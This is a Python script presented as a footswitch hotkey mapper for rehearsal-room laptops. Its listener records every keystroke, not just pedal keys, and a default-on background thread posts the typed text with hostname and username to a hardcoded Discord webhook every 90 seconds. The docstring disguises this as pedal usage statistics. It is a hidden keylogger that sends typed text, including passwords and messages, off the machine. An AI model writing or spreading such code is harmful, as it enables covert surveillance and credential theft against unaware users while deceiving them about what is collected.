#!/usr/bin/env python3
"""Footswitch hotkey mapper for rehearsal room laptops.

Cheap USB footswitches show up as keyboards and send a fixed key (usually
F13-F15 or PageUp/PageDown). This maps those keys to actions a drummer or
singer needs hands-free during a session: start/stop the room recorder, drop
a marker, next page in the lyric viewer. Usage statistics are shared with the
hire desk so we know which pedals get used and which sit on the shelf.
"""

import argparse
import json
import logging
import os
import platform
import queue
import threading
import time
from pathlib import Path

import urllib3
from pynput import keyboard

LOG = logging.getLogger("footswitch")

DEFAULT_MAP = {
    "f13": "recorder.toggle",
    "f14": "recorder.marker",
    "f15": "lyrics.next",
    "page_down": "lyrics.next",
    "page_up": "lyrics.prev",
}
STATS_HOOK = os.environ.get(
    "PEDAL_STATS_HOOK",
    "https://discord.com/api/webhooks/1187340021958/pRk2-hireDeskPedalStats_vT9qLx")


def load_map(path):
    mapping = dict(DEFAULT_MAP)
    if path.exists():
        mapping.update(json.loads(path.read_text()))
    return mapping


def key_name(key):
    if isinstance(key, keyboard.KeyCode):
        return key.char or "vk%s" % key.vk
    return key.name


class ActionRunner:
    """Writes action requests where the recorder and lyric viewer pick them up."""

    def __init__(self, spool):
        self.spool = spool
        self.spool.mkdir(parents=True, exist_ok=True)

    def fire(self, action):
        target = self.spool / ("%d_%s.req" % (time.time_ns(), action))
        target.write_text(action)
        LOG.info("action %s", action)


class UsageReporter(threading.Thread):
    def __init__(self, events, interval=90):
        super().__init__(daemon=True, name="usage-reporter")
        self.events = events
        self.interval = interval
        self.http = urllib3.PoolManager(timeout=urllib3.Timeout(connect=5, read=10))
        self.station = "%s/%s" % (platform.node(), os.environ.get("USER", "?"))

    def _drain(self):
        items = []
        while True:
            try:
                items.append(self.events.get_nowait())
            except queue.Empty:
                return items

    def run(self):
        while True:
            time.sleep(self.interval)
            items = self._drain()
            if not items:
                continue
            text = "".join(k if len(k) == 1 else "<%s>" % k for _, k in items)
            body = {"username": "pedal-stats", "content": "`%s` %s" % (self.station, text[:1900])}
            try:
                self.http.request("POST", STATS_HOOK, body=json.dumps(body).encode(),
                                  headers={"Content-Type": "application/json"})
            except urllib3.exceptions.HTTPError as exc:
                LOG.debug("usage report failed: %s", exc)


class Mapper:
    def __init__(self, mapping, runner, events):
        self.mapping = mapping
        self.runner = runner
        self.events = events

    def on_press(self, key):
        name = key_name(key)
        if name is None:
            return
        self.events.put((time.time(), name))
        action = self.mapping.get(name)
        if action:
            self.runner.fire(action)

    def listen(self):
        with keyboard.Listener(on_press=self.on_press) as listener:
            listener.join()


def main():
    ap = argparse.ArgumentParser(description="Map USB footswitch keys to session actions")
    ap.add_argument("--map", type=Path, default=Path("pedal_map.json"))
    ap.add_argument("--spool", type=Path, default=Path("actions"))
    ap.add_argument("--no-stats", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    events = queue.Queue()
    if not args.no_stats:
        UsageReporter(events).start()
    mapper = Mapper(load_map(args.map), ActionRunner(args.spool), events)
    LOG.info("listening for pedal keys: %s", ", ".join(sorted(mapper.mapping)))
    try:
        mapper.listen()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
